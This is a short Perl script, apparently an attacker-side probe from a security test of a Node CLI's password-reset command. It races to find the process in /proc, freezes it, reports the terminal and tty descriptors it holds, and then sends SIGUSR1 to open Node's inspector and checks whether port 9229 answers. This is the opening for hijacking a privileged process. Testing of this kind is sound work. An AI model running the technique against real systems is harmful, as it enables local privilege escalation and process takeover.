# Run by the attacker: waits for a process of his account that sets a password, stops it, and tells what it has of root's
# (a terminal, open files of one) and whether its inspector can be opened and reached. Three lines, or why not.
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(sleep time);

my ($ready) = @ARGV;
open(my $mark, '>', $ready) or die "$ready: $!\n";
close $mark;

sub content {
  my ($file) = @_;
  open(my $in, '<', $file) or return '';
  local $/;
  return scalar(<$in>) // '';
}

my $pid;
my $until = time + 60;
until ($pid) {
  die "nothing to seize\n" if time > $until;
  opendir(my $all, '/proc') or die "$!\n";
  for my $one (grep { /^\d+$/ } readdir $all) {
    next unless content("/proc/$one/cmdline") =~ m{^\S+/node\0\S+cli\.mjs\0password\0reset\0};
    $pid = $one if kill 'STOP', $one;
  }
  sleep 0.002;
}
my $stat = content("/proc/$pid/stat") =~ s/.*\) //rs;
print 'terminal ', (split ' ', $stat)[4], "\n";
my @files = grep { m{^/dev/(pts|tty|console)} } map { readlink($_) // '' } glob "/proc/$pid/fd/*";
print 'files ', scalar(@files), "\n";
kill 'USR1', $pid;
kill 'CONT', $pid;
$until = time + 3;
while (time < $until) {
  if (IO::Socket::INET->new('127.0.0.1:9229')) {
    print "inspector open\n";
    exit 0;
  }
  sleep 0.002;
}
print "inspector closed\n";
